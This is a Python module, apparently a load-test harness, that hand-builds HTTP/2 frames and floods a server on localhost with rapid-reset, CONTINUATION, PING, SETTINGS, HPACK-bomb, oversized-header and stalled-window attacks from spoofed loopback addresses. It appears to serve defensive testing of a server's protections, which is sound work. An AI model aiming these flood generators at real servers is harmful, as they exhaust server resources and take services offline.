"""Floods of HTTP/2 frames (RFC 9113 §10.5): each opens connections and sends at a bounded rate until it is told to stop."""

import socket
import struct
import threading
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CONNECTIONS_A_SECOND = 50  # of all attackers together, when they are thrown out or refused
PIECES_A_SECOND = 4_000  # of all attackers together: an attack needs no more, and takes little of the cores itself
BOMBS_A_SECOND = 400  # where a piece is some kilobytes and costs a thousand fields
ATTACKERS = "127.0.{}.{}"  # from 127.0.0.2 on: whoever floods is not who is good
ROUNDS_A_CONNECTION = 200  # pieces sent before a fresh connection is opened, if the last still stands
PIECES_A_WRITE = 20


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload) << 8 | kind) + struct.pack(">BI", flags, stream) + payload


def _string(text):
    length = len(text)
    if length < 127:
        return bytes([length]) + text
    head, rest = b"\x7f", length - 127
    while rest >= 128:
        head, rest = head + bytes([rest & 127 | 128]), rest >> 7
    return head + bytes([rest]) + text


def block(*fields, indexed=False):
    pattern = b"\x40" if indexed else b"\x00"
    return b"".join(pattern + _string(name) + _string(value) for name, value in fields)


def request(stream, path=b"/1k", method=b"GET", ends=True, more=b""):
    fields = block((b":method", method), (b":scheme", b"http"), (b":authority", b"flood.example"), (b":path", path))
    return frame(HEADERS, END_HEADERS | (END_STREAM if ends else 0), stream, fields + more)


def _number(kind, stream, number):
    return frame(kind, 0, stream, struct.pack(">I", number))


def _rapid_reset(i):
    return request(2 * i + 1) + _number(RST_STREAM, 2 * i + 1, CANCEL)


def _made_you_reset(i):
    return request(2 * i + 1, method=b"POST", ends=False) + _number(WINDOW_UPDATE, 2 * i + 1, 0)


def _continuation(i):
    return frame(HEADERS, 0, 1, block((b":method", b"GET"))) if i == 0 else frame(CONTINUATION, 0, 1, b"")


def _empty_data(i):
    return request(1, method=b"POST", ends=False) if i == 0 else frame(DATA, 0, 1)


def _bomb(i):
    first = block((b"x-bomb", b"b" * 3900), indexed=True)
    return request(2 * i + 1, more=first + b"\xbe" * 8_000)


def _crumbs(i):
    return request(2 * i + 1, more=block((b"cookie", b""), indexed=True) + b"\xbe" * 8_000)


def _large_heads(i):
    return request(2 * i + 1, more=block((b"x-large", b"l" * 15_000)))


def _pinned(i):
    return request(2 * i + 1, path=b"/100k")


# What each sends, the settings that it begins with, and whether it reads what comes back.
FLOODS = {
    "rapid-reset": (_rapid_reset, b"", True),
    "made-you-reset": (_made_you_reset, b"", True),
    "continuation": (_continuation, b"", True),
    "empty-data": (_empty_data, b"", True),
    "ping": (lambda i: frame(PING, 0, 0, struct.pack(">Q", i)), b"", True),
    "settings": (lambda i: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535 + i)), b"", True),
    "priority": (lambda i: frame(PRIORITY, 0, 2 * i + 1, b"\0" * 5), b"", True),
    "window-update": (lambda i: _number(WINDOW_UPDATE, 0, 1), b"", True),
    "hpack-bomb": (_bomb, struct.pack(">HI", 4, 0), True),
    "cookie-bomb": (_crumbs, struct.pack(">HI", 4, 0), True),
    "large-heads": (_large_heads, struct.pack(">HI", 4, 0), True),
    "pinned-window": (_pinned, struct.pack(">HI", 4, 0), True),
    "stalled-read": (_pinned, struct.pack(">HI", 4, 1 << 30), False),
}

BOMBS = ("hpack-bomb", "cookie-bomb", "large-heads")


class Flood:
    """So many connections at once that send one kind of flood, each of which comes back when it is thrown out."""

    def __init__(self, port, name, source, connections=8):
        self.piece, self.settings, self.reads = FLOODS[name]
        self.port = port
        self.source = ATTACKERS.format(source >> 8, source & 255)
        rate = BOMBS_A_SECOND if name in BOMBS else PIECES_A_SECOND
        self.pause = PIECES_A_WRITE * connections / rate
        self.reconnect = connections / CONNECTIONS_A_SECOND
        self.stopping = threading.Event()
        self.opened = 0
        self.refused = 0
        self.sent = 0
        self.threads = [threading.Thread(target=self._run, daemon=True) for _ in range(connections)]

    def __enter__(self):
        for thread in self.threads:
            thread.start()
        return self

    def __exit__(self, *_):
        self.stopping.set()
        for thread in self.threads:
            thread.join(15)

    def _run(self):
        while not self.stopping.is_set():
            try:
                self._connection()
            except OSError:
                pass  # thrown out, which is what should happen
            self.stopping.wait(self.reconnect)

    def _connection(self):
        with socket.create_connection(("127.0.0.1", self.port), timeout=5, source_address=(self.source, 0)) as sock:
            self.opened += 1
            try:
                sock.sendall(PREFACE + frame(SETTINGS, 0, 0, self.settings))
                sock.recv(9)  # the head of its settings
            except (ConnectionResetError, BrokenPipeError):
                self.refused += 1
                raise
            if not self.reads:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            for turn in range(ROUNDS_A_CONNECTION):
                if self.stopping.is_set():
                    return
                first = turn * PIECES_A_WRITE
                sock.sendall(b"".join(self.piece(i) for i in range(first, first + PIECES_A_WRITE)))
                self.sent += PIECES_A_WRITE
                self._read(sock)
                self.stopping.wait(self.pause)
            self._wait(sock)

    def _read(self, sock):
        """Takes what is there. The end of it is being thrown out, whatever may still be sent."""
        if not self.reads:
            return
        sock.setblocking(False)
        try:
            while True:
                if not sock.recv(1 << 16):
                    raise ConnectionResetError
        except BlockingIOError:
            pass
        finally:
            sock.settimeout(5)

    def _wait(self, sock):
        """Stays, as somebody does who wants memory to be held."""
        end = time.monotonic() + 5
        while time.monotonic() < end and not self.stopping.is_set():
            self._read(sock)
            self.stopping.wait(0.1)
